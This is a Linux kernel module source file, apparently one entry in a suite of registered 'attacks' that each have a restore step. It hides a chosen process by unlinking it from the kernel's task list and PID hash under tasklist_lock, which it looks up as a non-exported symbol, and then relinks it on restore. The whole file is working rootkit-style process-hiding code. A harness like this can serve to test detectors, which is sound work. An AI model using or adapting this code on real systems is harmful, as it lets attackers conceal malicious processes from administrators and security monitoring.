// SPDX-License-Identifier: GPL-2.0-only
/*
 * Hides a process: from=list takes it out of the list of all tasks, from=pid out of the
 * table of process ids, from=both. It has to be put back before it ends.
 */
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

#include "attack.h"

static int pid;
module_param(pid, int, 0);
static char *from = "both";
module_param(from, charp, 0);

static struct task_struct *task;
static struct pid *number;
static rwlock_t *lock;

static bool is_from(const char *what)
{
	return !strcmp(from, what) || !strcmp(from, "both");
}

static int change(void)
{
	lock = (rwlock_t *)attack_symbol("tasklist_lock");
	number = find_get_pid(pid);
	task = number ? get_pid_task(number, PIDTYPE_PID) : NULL;
	if (!task || !lock)
		return -ESRCH;
	write_lock_irq(lock);
	if (is_from("list"))
		list_del_rcu(&task->tasks);
	if (is_from("pid"))
		hlist_del_rcu(&task->pid_links[PIDTYPE_PID]);
	write_unlock_irq(lock);
	return 0;
}

static void restore(void)
{
	write_lock_irq(lock);
	if (is_from("list"))
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	if (is_from("pid"))
		hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID],
				   &number->tasks[PIDTYPE_PID]);
	write_unlock_irq(lock);
	put_task_struct(task);
	put_pid(number);
}

ATTACK(change, restore, "a process that is hidden");
